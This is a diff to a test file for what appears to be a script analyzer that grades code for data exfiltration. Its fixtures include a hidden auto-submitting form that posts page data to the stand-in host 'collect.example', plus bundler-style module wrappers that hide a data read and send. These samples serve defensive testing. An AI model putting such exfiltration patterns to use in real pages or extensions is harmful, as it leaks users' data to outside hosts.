@@ -1,4 +1,4 @@
-import { expect, it } from 'vitest';
+import { describe, expect, it } from 'vitest';
 import { analyze } from '../analyze.ts';
 import { memoryTree } from '../sources/memory.ts';
 import { graded } from '../testing/graded.ts';
@@ -159,6 +159,20 @@ it('a form whose address its class was given, filled by another method', async (
     `class Shipper { constructor(target) { this.target = target; } field(form, name, value) { const input = document.createElement('input'); input.name = name; input.value = value; form.append(input); } send(rows) { const form = document.createElement('form'); Object.assign(form, { method: 'post', action: this.target }); rows.forEach(({ id }, i) => this.field(form, 'l' + i, id)); document.body.append(form); form.submit(); } } new Shipper('https://collect.example/x').send([{ id: ${data} }]);`;
   expect(await graded({ content: content('document.body.innerText') })).toMatch(/^[DF]/);
   expect(await graded({ content: content("'ready'") })).toMatch(/^A/);
+});
+
+describe('functions of a bundle’s modules that read themselves', () => {
+  const bundle = (exported: string, data: string): string =>
+    `(() => { var mods = { './read.js'(module, exports, require) { ${exported} const read = () => ${data}; } }; var cache = {}; function need(id) { var known = cache[id]; if (known !== undefined) return known.exports; var module = (cache[id] = { exports: {} }); mods[id](module, module.exports, need); return module.exports; } need.d = (exports, all) => { for (var key in all) Object.defineProperty(exports, key, { enumerable: true, get: all[key] }); }; (() => { var own = need('./read.js'); (async () => ${send('await (0, own.read)()')})(); })(); })();`;
+  it.each([
+    ['in a table of getters', 'require.d(exports, { read: () => read });'],
+    ['by a name and a getter', "require.d(exports, 'read', function () { return read; });"],
+    ['as a property with a getter', "Object.defineProperty(exports, 'read', { enumerable: true, get: () => read });"],
+    ['as a property', 'exports.read = () => read();'],
+  ])('exported %s', async (_, exported) => {
+    expect(await graded({ background: bundle(exported, TAKEN) })).toBe('F');
+    expect(await graded({ background: bundle(exported, 'Promise.resolve([1])') })).toMatch(/^A/);
+  });
 });
 
 it('the second of two forms that a script makes', async () => {
